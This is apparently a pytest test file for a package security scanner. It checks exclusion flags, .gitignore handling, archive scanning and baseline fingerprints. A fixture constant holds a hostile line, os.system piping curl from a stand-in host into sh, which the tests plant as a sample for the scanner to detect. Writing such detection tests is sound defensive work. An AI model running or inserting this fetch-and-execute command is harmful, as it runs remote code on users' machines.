"""Exclusion (``--exclude``, ``--extend-exclude``, the ``exclude`` key, ``.gitignore``) and
baseline paths relative to the project root, however the target is spelled."""

from __future__ import annotations

import io
import json
import os
from pathlib import Path
from typing import Any

import py7zr
import pytest

from outwork.cli.main import run

PAYLOAD = "import os\nos.system('curl -s https://example.invalid/x | sh')\n"


def _scan(*argv: str, cwd: Path | None = None) -> tuple[int, dict[str, Any], str]:
    out, err = io.StringIO(), io.StringIO()
    here = Path.cwd()
    if cwd is not None:
        os.chdir(cwd)
    try:
        code = run(
            ["scan", *argv, "--no-cache", "-j", "1", "-f", "json", "--select", "PKG"], out, err
        )
    finally:
        os.chdir(here)
    return code, json.loads(out.getvalue()) if out.getvalue() else {}, err.getvalue()


def _paths(result: dict[str, Any]) -> list[str]:
    return sorted({f["location"]["path"] for f in result["findings"]})


def _project(root: Path) -> Path:
    for name in ("src/app.py", "tests/fixtures/evil.py", "tests/fixtures/more/evil2.py"):
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(PAYLOAD)
    return root


def test_exclude_flags_and_key(tmp_path: Path) -> None:
    root = _project(tmp_path / "proj")
    _, everything, _ = _scan(str(root), "--no-config")
    assert len(_paths(everything)) == 3
    _, result, _ = _scan(str(root), "--no-config", "--exclude", "tests/fixtures/")
    assert _paths(result) == [f"{root}/src/app.py"]
    assert {"path": f"{root}/tests/fixtures", "reason": "excluded by the exclude patterns"} in (
        result["skipped"]
    )
    (root / "outwork.toml").write_text('exclude = ["tests/fixtures/"]\n')
    _, result, _ = _scan(str(root))
    assert _paths(result) == [f"{root}/src/app.py"]
    # --exclude replaces the key, --extend-exclude adds to it
    _, result, _ = _scan(str(root), "--exclude", "src/")
    assert len(_paths(result)) == 2 and f"{root}/src/app.py" not in _paths(result)
    _, result, _ = _scan(str(root), "--extend-exclude", "src/")
    assert _paths(result) == []
    # Patterns are relative to the project root even when a sub-folder is scanned.
    _, result, _ = _scan(str(root / "tests"))
    assert _paths(result) == []


def test_a_target_named_on_the_command_line_is_never_excluded(tmp_path: Path) -> None:
    root = _project(tmp_path / "proj")
    (root / "outwork.toml").write_text('exclude = ["evil.py"]\n')
    code, result, _ = _scan(str(root / "tests" / "fixtures" / "evil.py"))
    assert code == 1 and result["findings"]


def test_exclusion_never_applies_inside_archives(tmp_path: Path) -> None:
    root = tmp_path / "proj"
    root.mkdir()
    with py7zr.SevenZipFile(root / "bundle.7z", "w") as sz:
        sz.writestr(PAYLOAD, "tests/fixtures/evil.py")
    _, result, _ = _scan(str(root), "--no-config", "--exclude", "tests/fixtures/")
    assert _paths(result) == [f"{root}/bundle.7z!/tests/fixtures/evil.py"]


def test_gitignore_is_respected_in_a_repository_only(tmp_path: Path) -> None:
    root = _project(tmp_path / "repo")
    (root / ".gitignore").write_text("fixtures/\n!keep.py\n")
    (root / "tests" / ".gitignore").write_text("more/\n")
    # Not a repository (an unpacked package, say): its .gitignore hides nothing.
    _, result, _ = _scan(str(root), "--no-config")
    assert len(_paths(result)) == 3
    (root / ".git").mkdir()
    _, result, _ = _scan(str(root), "--no-config")
    assert _paths(result) == [f"{root}/src/app.py"]
    reasons = {s["path"]: s["reason"] for s in result["skipped"]}
    assert reasons[f"{root}/tests/fixtures"] == "ignored by .gitignore"
    # A sub-folder scanned alone still sees the repository's .gitignore above it.
    _, result, _ = _scan(str(root / "tests"), "--no-config")
    assert _paths(result) == []
    _, result, _ = _scan(str(root), "--no-config", "--no-respect-gitignore")
    assert len(_paths(result)) == 3
    (root / "outwork.toml").write_text("respect-gitignore = false\n")
    _, result, _ = _scan(str(root))
    assert len(_paths(result)) == 3


def test_a_nested_gitignore_negation_re_includes(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    (root / ".git").mkdir(parents=True)
    (root / "pkg").mkdir()
    (root / "pkg" / "evil.py").write_text(PAYLOAD)
    (root / ".gitignore").write_text("*.py\n")
    (root / "pkg" / ".gitignore").write_text("!evil.py\n")
    _, result, _ = _scan(str(root), "--no-config")
    assert _paths(result) == [f"{root}/pkg/evil.py"]


@pytest.mark.parametrize("marker", ["config", "git", "none"])
def test_baseline_fingerprints_do_not_depend_on_the_spelling_of_the_target(
    tmp_path: Path, marker: str
) -> None:
    root = _project(tmp_path / "proj")
    if marker == "config":
        (root / "outwork.toml").write_text("")
    elif marker == "git":
        (root / ".git").mkdir()
    baseline = tmp_path / "baseline.json"
    out, err = io.StringIO(), io.StringIO()
    here = Path.cwd()
    os.chdir(root)
    try:
        argv = ["scan", ".", "--no-cache", "--select", "PKG", "--write-baseline", str(baseline)]
        assert run(argv, out, err) == 0
    finally:
        os.chdir(here)
    written = json.loads(baseline.read_text())["findings"]
    assert sorted(e["path"] for e in written) == [
        "src/app.py",
        "tests/fixtures/evil.py",
        "tests/fixtures/more/evil2.py",
    ]
    keys = sorted(e["fingerprint"] for e in written)
    spellings = [
        (str(root), None),  # absolute
        ("proj", tmp_path),  # relative from the parent
        ("./proj/", tmp_path),  # with ./ and a trailing slash
    ]
    for target, cwd in spellings:
        code, result, _ = _scan(target, "--baseline", str(baseline), cwd=cwd)
        assert code == 0, (target, [f["location"]["path"] for f in result["findings"]])
        assert {f["suppressed"] for f in result["findings"]} == {"baseline"}
    if marker != "none":  # with a project root above it, a sub-folder scan matches too
        code, result, _ = _scan(str(root / "tests"), "--baseline", str(baseline))
        assert code == 0
    _, result, _ = _scan(str(root), "--write-baseline", str(tmp_path / "again.json"))
    again = json.loads((tmp_path / "again.json").read_text())["findings"]
    assert sorted(e["fingerprint"] for e in again) == keys
